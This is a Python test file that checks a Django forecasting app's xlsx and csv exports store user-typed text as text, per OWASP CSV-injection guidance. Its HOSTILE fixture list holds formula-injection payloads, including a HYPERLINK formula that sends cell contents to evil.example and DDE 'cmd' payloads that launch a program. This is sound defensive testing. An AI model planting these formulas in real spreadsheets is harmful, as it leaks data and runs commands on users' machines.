"""Text someone typed is written into every export as text, never as a live formula.

OWASP's CSV-injection guidance: a cell beginning with "=", "+", "-", "@", a tab or a
carriage return is taken for a formula by a spreadsheet program. Each export is read back
with openpyxl (the cell's type) and with python-calamine, an independent reader that
shows a formula cell's cached result (nothing, for openpyxl's files) instead of its text.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from openpyxl import Workbook
from python_calamine import CalamineWorkbook

from classification.spreadsheets import safe_cell_value, write_cell
from forecasts.models import Status
from forecasts.selectors import demand_report
from forecasts.xlsx import export_forecast
from tests.forecasts.factories import make_employer, make_forecast

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Baxın")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _openpyxl_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _calamine_values(content: bytes) -> list:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return [
        value
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for value in row
    ]


def _assert_written_as_text(content: bytes, texts: list[str]) -> None:
    cells = _openpyxl_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    by_value = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    read = _calamine_values(content)
    for text in texts:
        text = text.replace("\r", "\n")  # what any XML reader makes of a carriage return
        assert by_value[text].data_type == "s", text
        assert by_value[text].quotePrefix, text  # shown as typed text, also when edited
        assert text in read, text


@pytest.mark.parametrize("text", HOSTILE)
def test_the_helper_keeps_formula_like_text_as_text_in_both_kinds_of_sheet(text):
    ordinary = Workbook()
    write_cell(ordinary.active, row=1, column=1, value=text)
    ordinary.active.append([safe_cell_value(ordinary.active, text), "plain", 3])
    streamed = Workbook(write_only=True)
    sheet = streamed.create_sheet()
    sheet.append([safe_cell_value(sheet, text), "plain", 3])
    for book in (ordinary, streamed):
        buffer = io.BytesIO()
        book.save(buffer)
        _assert_written_as_text(buffer.getvalue(), [text])
        assert "plain" in _calamine_values(buffer.getvalue())


def test_the_helper_drops_characters_a_workbook_cannot_hold():
    book = Workbook()
    write_cell(book.active, row=1, column=1, value="Bakı\x0b\x1b ofis")
    assert book.active["A1"].value == "Bakı ofis"


def test_the_forecast_export_writes_the_employers_text_as_text(draft):
    employer = draft.employer
    employer.legal_name, employer.contact_person = HOSTILE[0], HOSTILE[1]
    employer.save()
    line = draft.lines.order_by("position").first()
    line.job_title, line.note = HOSTILE[2], HOSTILE[3]
    line.save()
    draft.justification = HOSTILE[0] + " əsaslandırma"
    draft.save()

    content = export_forecast(draft, language="az")

    _assert_written_as_text(content, [*HOSTILE[:4], HOSTILE[0] + " əsaslandırma"])


def test_the_forecast_download_is_safe_through_the_page(owner_client, draft):
    line = draft.lines.order_by("position").first()
    line.note = "=1+1"
    line.save()

    response = owner_client.get(reverse("forecasts:forecast-xlsx", args=[draft.pk]))

    _assert_written_as_text(response.content, ["=1+1"])


def test_the_demand_report_writes_titles_as_text(reviewer_client, occupations, places, owner):
    # Titles are reference data that staff edit in admin: written as text all the same.
    occupation = occupations["7212"]
    occupation.title_az = "=1+1 Qaynaqçılar"
    occupation.save()
    make_forecast(owner, 2029, lines=[(occupation, 4, places["Bakı"])], status=Status.SUBMITTED)
    assert demand_report(year=2029).total_workers == 4

    response = reviewer_client.get(reverse("admin:forecasts_forecast_report_xlsx"), {"year": 2029})

    _assert_written_as_text(response.content, ["=1+1 Qaynaqçılar"])


def test_the_line_register_writes_typed_text_as_text_in_xlsx_and_csv(
    reviewer_client, occupations, places
):
    employer = make_employer("hostile@example.az", legal_name=HOSTILE[0])
    make_forecast(
        employer, 2029, lines=[(occupations["7212"], 4, places["Bakı"])], status="submitted"
    )
    url = reverse("admin:forecasts_forecast_register", args=["xlsx"]) + "?queue=all"

    content = b"".join(reviewer_client.get(url).streaming_content)
    _assert_written_as_text(content, [HOSTILE[0]])

    url = reverse("admin:forecasts_forecast_register", args=["csv"]) + "?queue=all"
    text = b"".join(reviewer_client.get(url).streaming_content).decode("utf-8")
    row = next(row for row in csv.reader(io.StringIO(text[1:])) if row[2] == employer.voen)
    assert row[1] == "'" + HOSTILE[0]  # OWASP: an apostrophe makes it text in a spreadsheet
